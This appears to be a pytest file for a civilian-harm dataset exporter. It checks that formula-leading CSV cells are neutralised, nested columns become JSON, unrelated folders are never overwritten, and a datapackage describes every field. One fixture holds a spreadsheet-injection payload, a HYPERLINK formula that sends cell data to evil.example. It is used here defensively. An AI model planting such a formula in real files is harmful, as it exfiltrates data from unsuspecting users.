"""`civcas export` writes a dataset ready to publish and never damages a folder (issue 27, item
14; issue 26, item 5): formula-leading CSV cells neutralised, nested columns as JSON, every
credit, no folder overwritten that holds anything but an earlier export, a re-export whole."""

from __future__ import annotations

import csv
import json

import duckdb
import pytest

from civcas.export import EXPORT_MARKER, FORMULA_NOTE, ExportError, export
from civcas.settings import Settings

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def settings(tmp_path) -> Settings:
    warehouse = tmp_path / "warehouse" / "civcas.duckdb"
    warehouse.parent.mkdir()
    con = duckdb.connect(str(warehouse))
    con.execute("create schema marts")
    con.execute(
        "create table marts.fct_civilian_harm_reports as select * from (values"
        " ('airwars', ?, ['hts_al_qaida', 'us_led_coalition'], -3),"
        " ('airwars', '-1 (sic)', [], 5), ('airwars', 'Mosul', null, 7)"
        ") v(source, place, belligerent_ids, figure)",
        [FORMULA],
    )
    con.execute("create table marts.dim_other as select 1 as id")
    con.close()
    return Settings(warehouse=warehouse, landing_dir=tmp_path / "landing")


@pytest.fixture
def manifest(tmp_path):
    path = tmp_path / "manifest.json"
    path.write_text(json.dumps({"nodes": {}}))
    return path


def _rows(path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def test_formula_cells_are_text_and_nested_columns_json(settings, manifest, tmp_path):
    out = tmp_path / "dataset"
    export(settings, out, "csv", ["fct_civilian_harm_reports"], manifest)
    rows = _rows(out / "fct_civilian_harm_reports.csv")
    assert [row["place"] for row in rows] == ["'" + FORMULA, "'-1 (sic)", "Mosul"]
    assert [row["figure"] for row in rows] == ["-3", "5", "7"]  # numbers stay numbers
    assert json.loads(rows[0]["belligerent_ids"]) == ["hts_al_qaida", "us_led_coalition"]
    assert FORMULA_NOTE in (out / "DATA_DICTIONARY.md").read_text()
    credits = (out / "ATTRIBUTION.md").read_text()
    assert "GeoNames" in credits and "geoBoundaries" in credits


def test_a_folder_that_is_no_export_is_never_touched(settings, manifest, tmp_path):
    landing = tmp_path / "landing" / "airwars"
    landing.mkdir(parents=True)
    (landing / "ATTRIBUTION.md").write_text("credit Airwars")
    with pytest.raises(ExportError, match="not an earlier civcas export"):
        export(settings, landing, "csv", [], manifest)
    assert [p.name for p in landing.iterdir()] == ["ATTRIBUTION.md"]
    with pytest.raises(ExportError, match="is a file, not a folder"):
        export(settings, settings.warehouse, "csv", [], manifest)


def test_a_re_export_replaces_the_earlier_one_whole(settings, manifest, tmp_path):
    out = tmp_path / "dataset"
    export(settings, out, "csv", [], manifest)
    assert (out / "dim_other.csv").exists() and (out / EXPORT_MARKER).exists()
    export(settings, out, "csv", ["fct_civilian_harm_reports"], manifest)
    assert sorted(p.name for p in out.iterdir()) == sorted(
        [
            EXPORT_MARKER,
            "ATTRIBUTION.md",
            "DATA_DICTIONARY.md",
            "data_dictionary.csv",
            "datapackage.json",
            "fct_civilian_harm_reports.csv",
        ]
    )
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".dataset")]


def test_a_data_package_describes_every_file_and_field(settings, manifest, tmp_path):
    out = tmp_path / "dataset"
    export(settings, out, "csv", [], manifest)
    package = json.loads((out / "datapackage.json").read_text())
    assert package["profile"] == "tabular-data-package"
    resources = {r["name"]: r for r in package["resources"]}
    assert sorted(resources) == ["dim_other", "fct_civilian_harm_reports"]
    fields = {
        f["name"]: f["type"] for f in resources["fct_civilian_harm_reports"]["schema"]["fields"]
    }
    assert fields == {
        "source": "string",
        "place": "string",
        "belligerent_ids": "array",
        "figure": "integer",
    }
    assert all((out / r["path"]).exists() for r in package["resources"])
